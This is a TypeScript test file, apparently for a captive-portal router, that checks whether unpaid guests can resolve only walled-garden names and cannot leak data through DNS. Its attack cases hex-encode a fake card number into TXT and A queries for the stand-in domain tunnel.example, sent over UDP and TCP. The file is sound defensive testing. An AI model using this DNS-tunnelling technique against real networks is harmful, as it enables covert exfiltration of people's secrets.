import t from 'tap';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as tb from '../../scripts/lib/testbed/index.js';
import { qlink, useTestbed } from '../helpers/testbed.js';
import { dnsQuery } from './packets.js';

/**
 * A guest without a session asks DNS for names outside the walled garden and
 * tries to tunnel data out in TXT queries, to the router's resolver and to an
 * outside one directly, over UDP and TCP. It gets no real answer and no query
 * of its leaves the router; the garden's own name is answered for real, and
 * once the guest pays, everything is (issue 16, item 5).
 */
const ID = 'atk_dns';

interface Answer {
  rcode: number;
  answers: Array<{ type: number; ttl: number; data: string }>;
}

t.test("held guests' DNS: only the garden's names, no tunnel", async (t) => {
  const bed = await useTestbed(t, ID, { clients: 1, agent: true, agentConfig: { backend: 'nftables', walledGarden: ['garden.example'] } });
  const c1 = bed.clients[0]!;
  const upLog = () => readFileSync(join(bed.stateDir, 'dnsmasq-up.log'), 'utf8');
  const ask = async (o: Parameters<typeof dnsQuery>[0]): Promise<Answer> => {
    const r = await tb.exec(ID, c1.name, ['/usr/bin/python3', '-c', dnsQuery(o)], { timeoutMs: 15_000 });
    if (r.code !== 0) throw new Error(`query failed: ${r.stderr}`);
    return JSON.parse(r.stdout) as Answer;
  };
  const addrs = (a: Answer) => a.answers.filter((x) => x.type === 1 || x.type === 28).map((x) => x.data);

  const garden = await ask({ name: 'garden.example', type: 'A', server: bed.router.lan4 });
  t.same(addrs(garden), [bed.upstream.ip4], "the garden's name gets its real address");
  t.match(upLog(), /query\[A\] garden\.example/, "asked of the internet's resolver (whose log the checks below read)");

  const outside = await ask({ name: 'www.outside.example', type: 'A', server: bed.router.lan4 });
  t.same(addrs(outside), [bed.router.lan4], 'a name outside the garden points at the portal');
  t.equal(outside.answers[0]?.ttl, 0, 'with TTL 0, so nothing sticks once the guest pays');
  t.same(addrs(await ask({ name: 'www.outside.example', type: 'AAAA', server: bed.router.lan4 })), [bed.router.lan6], 'AAAA likewise');

  const secret = Buffer.from('card 4111-1111 exp 12/29').toString('hex');
  const tries: Array<Parameters<typeof dnsQuery>[0]> = [
    { name: `${secret}.1.t.tunnel.example`, type: 'TXT', server: bed.router.lan4 },
    { name: `${secret}.2.t.tunnel.example`, type: 'TXT', server: bed.router.lan4, tcp: true },
    // Straight to an outside resolver: redirected to the restricted one all the same.
    { name: `${secret}.3.t.tunnel.example`, type: 'TXT', server: bed.upstream.ip4 },
    { name: `${secret}.4.t.tunnel.example`, type: 'TXT', server: bed.upstream.ip4, tcp: true },
    { name: `${secret}.5.t.tunnel.example`, type: 'TXT', server: bed.upstream.ip6 },
    { name: `${secret}.6.t.tunnel.example`, type: 'A', server: bed.upstream.ip4 },
  ];
  for (const q of tries) {
    const a = await ask(q);
    t.notOk(
      a.answers.some((x) => x.type === 16),
      `${q.type} over ${q.tcp ? 'TCP' : 'UDP'} via ${q.server}: no TXT record back (rcode ${a.rcode}, ${a.answers.length} answers)`,
    );
    if (q.type === 'A') t.same(addrs(a), [bed.router.lan4], "an A query to an outside resolver is the portal's too");
  }
  t.notMatch(upLog(), /tunnel\.example/, 'no tunnel query reached any resolver outside the router');

  t.equal((await qlink(ID, ['auth', c1.mac])).code, 0);
  const paid = await ask({ name: 'www.outside.example', type: 'A', server: bed.router.lan4 });
  t.same(addrs(paid), [bed.upstream.ip4], 'once the guest has a session its DNS is the real one');
});
